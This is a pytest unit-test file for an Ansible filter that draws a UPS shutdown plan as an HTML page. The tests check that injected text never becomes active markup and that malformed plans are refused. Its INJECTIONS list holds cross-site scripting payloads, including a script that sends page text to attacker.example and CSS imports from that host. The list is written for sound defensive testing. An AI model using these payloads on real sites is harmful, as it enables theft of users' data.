# Copyright (c) 2026, The homelab.nut contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from typing import Any

import pytest
from ansible.errors import AnsibleFilterError
from ansible_collections.homelab.nut.plugins.filter import shutdown_picture
from ansible_collections.homelab.nut.plugins.module_utils._nut.plan import data as plan_data
from ansible_collections.homelab.nut.plugins.module_utils._nut.plan import model, picture, planner, text
from ansible_collections.homelab.nut.tests.unit.support.hostile import NASTY, changed_data, find_unfit, values
from hypothesis import given
from hypothesis import strategies as st

draw = shutdown_picture.FilterModule().filters()["shutdown_picture"]


def make_data(name: str = "truenas", guests: int = 1) -> dict[str, Any]:
    """Return a plan as the module returns it."""
    media = [f"media{number}" for number in range(guests)]
    planned = planner.make_plan(
        [
            model.PlanMachine("pve", "primary", "pve"),
            model.PlanMachine(name, "secondary", "truenas"),
            *(model.PlanMachine(guest, "guest", "qm", 10, 40, 60, (name,), 100 + at) for at, guest in enumerate(media)),
        ],
        [model.Supply(runtime=1500, runtime_low=480, ignorelb=True)],
        model.Timing(guests_time=120),
        [model.StagePlan("nas-guests", runtime=700, guests=tuple(media), fsd=True)],
    )
    data: dict[str, Any] = json.loads(json.dumps(plan_data.plan_to_dict(planned)))
    return data


# everything that the page may contain
TAGS = frozenset(
    re.findall(
        r"\w+",
        "html head meta title style body main h1 h2 p div b span strong section svg text rect line table tr th td dl dt dd i u",
    )
)
ATTRIBUTES = frozenset(
    re.findall(
        r"[\w-]+",
        "lang charset http-equiv name content class aria-hidden viewbox role aria-label x y x1 y1 x2 y2 width height rx"
        " fill fill-opacity stroke stroke-width stroke-dasharray text-anchor style",
    )
)
STYLES = re.compile(
    r"(background|border|fill|text-align|padding-right|width):[^;:<>]*(;(background|border|fill|text-align|padding-right|width):[^;:<>]*)*"
)


class ForbiddenContent(HTMLParser):
    """Collects everything in a page that is not allowed."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.policies: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        self.wrong += [tag] if tag not in TAGS else []
        self.wrong += [
            f"{tag} {name}={value}" for name, value in given.items() if name not in ATTRIBUTES or find_unfit(value)
        ]
        if not STYLES.fullmatch(given.get("style", "fill:none")) or "url" in given.get("style", ""):
            self.wrong.append(given["style"])
        if "http-equiv" in given:
            self.policies.append(given["content"])

    handle_startendtag = handle_starttag

    def handle_decl(self, decl: str) -> None:
        self.wrong += [decl] if decl != "DOCTYPE html" else []

    def handle_comment(self, data: str) -> None:
        self.wrong.append(data)

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(data)

    def handle_pi(self, data: str) -> None:
        self.wrong.append(data)


def is_harmless(page: str) -> bool:
    """Check that a page has only allowed elements, and that the security policy precedes all data of the host."""
    read = ForbiddenContent(page)
    assert read.wrong == []
    (policy,) = read.policies
    assert "default-src 'none'" in policy
    assert "script" not in policy
    assert page.index("http-equiv") < page.index("<title>") < page.index("<body>")
    assert not find_unfit(page)
    return True


INJECTIONS = (
    "<script>fetch('https://attacker.example/?'+document.body.innerText)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</title><script>alert(1)</script>",
    "</svg><iframe src=javascript:alert(1)>",
    "--><!--<script>",
    "]]><svg onload=alert(1)>",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "</style><style>@import 'https://attacker.example'",
    '<a href="javascript:alert(1)">x</a>',
    "expression(alert(1)); background: url(https://attacker.example)",
    *NASTY[:-1],
)


def test_page_shows_plan_and_observed_times() -> None:
    data = make_data()
    assert draw(data) == picture.draw_page(plan_data.plan_from_dict(data))
    assert "Shutdown plan of pve" in draw(data)
    drawn = draw(data, {"truenas": [12, 71.5], "pve": [80, None], "media0": [None, None]})
    assert "Shutdown of pve: planned and measured" in drawn
    assert drawn == picture.draw_page(
        plan_data.plan_from_dict(data), {"truenas": (12, 71.5), "pve": (80, None), "media0": (None, None)}
    )
    assert is_harmless(draw(data))
    assert is_harmless(drawn)


@pytest.mark.parametrize("words", INJECTIONS)
def test_injected_text_never_becomes_active_content(words: str) -> None:
    """In each text of a plan in turn, and in the name of a machine."""
    data = make_data()
    pages = [draw(data, {words: [1, 2], "truenas": [3, None]}), draw(make_data(name=f"nas {words}"))]
    refusals: list[str] = []
    for holder, key in list(list_texts(data)):
        before, holder[key] = holder[key], words
        try:
            pages.append(draw(data))
        except AnsibleFilterError as error:
            refusals.append(str(error))
        holder[key] = before
    assert len(pages) > 40
    assert not find_unfit("".join(refusals))
    assert all(map(is_harmless, pages))


def list_texts(data: Any) -> Any:
    for key, value in data.items() if isinstance(data, dict) else enumerate(data) if isinstance(data, list) else ():
        if isinstance(value, str):
            yield data, key
        yield from list_texts(value)


@pytest.mark.parametrize(
    "change",
    [
        {"picture": "<script>"},
        {"machines": "<html><script>"},
        {"machines": []},
        {"machines": [{"name": "pve", "role": "primary", "kind": "<script>"}]},
        {"events": []},
        {"worst": None},
        {"constraints": []},
        {"needed": {"hostsync": "<script>"}},
        {"needed": {"hostsync": 10**400}},
        {"holds": "yes"},
        {"guests": [{"machine": "a", "id": "<script>", "kind": "qm", "name": "", "stage": "", "seconds": 1}]},
        {"events": [{"at": 10**400, "until": 0, "machine": "", "what": "FSD"}]},
        {"events": [{"at": float("nan"), "until": 0, "machine": "", "what": "FSD"}]},
    ],
)
def test_malformed_plan_is_refused(change: dict[str, Any]) -> None:
    with pytest.raises(AnsibleFilterError, match="not a saved plan"):
        draw({**make_data(), **change})


@pytest.mark.parametrize("data", [None, 7, "<html><script>", [], {}])
def test_plan_that_is_not_a_dictionary_is_refused(data: Any) -> None:
    with pytest.raises(AnsibleFilterError, match="not a saved plan"):
        draw(data)


@pytest.mark.parametrize(
    "pair", [[1], [1, 2, 3], 7, None, ["soon", 2], [1, float("nan")], [float("inf"), 1], {}, [10**400, 1]]
)
def test_observed_values_must_be_times(pair: Any) -> None:
    with pytest.raises(AnsibleFilterError, match=r"observed times\.seen\.truenas"):
        draw(make_data(), {"truenas": pair})


def test_hundreds_of_machines_are_drawn_and_thousands_refused() -> None:
    assert is_harmless(draw(make_data(guests=400)))
    data = make_data()
    data["machines"] += [{**data["machines"][2], "name": f"m{number}"} for number in range(4000)]
    with pytest.raises(AnsibleFilterError, match="more than 1000 machines"):
        draw(data)


DATA = make_data()


@given(
    st.one_of(values, changed_data(DATA)),
    st.one_of(st.none(), values, st.dictionaries(st.text(), st.lists(st.floats(), max_size=2))),
)
def test_any_answer_gives_a_harmless_page_or_an_error(data: Any, seen: Any) -> None:
    for plan in (data, DATA):
        refused = ""
        try:
            page = draw(plan, seen)
        except AnsibleFilterError as error:
            refused = str(error)
        assert not find_unfit(refused)
        assert refused or is_harmless(page)


@given(changed_data(DATA))
def test_any_plan_that_can_be_read_can_be_shown_as_text(data: Any) -> None:
    try:
        read = plan_data.plan_from_dict(data)
    except model.PlanError:
        return
    assert text.draw_table(read)
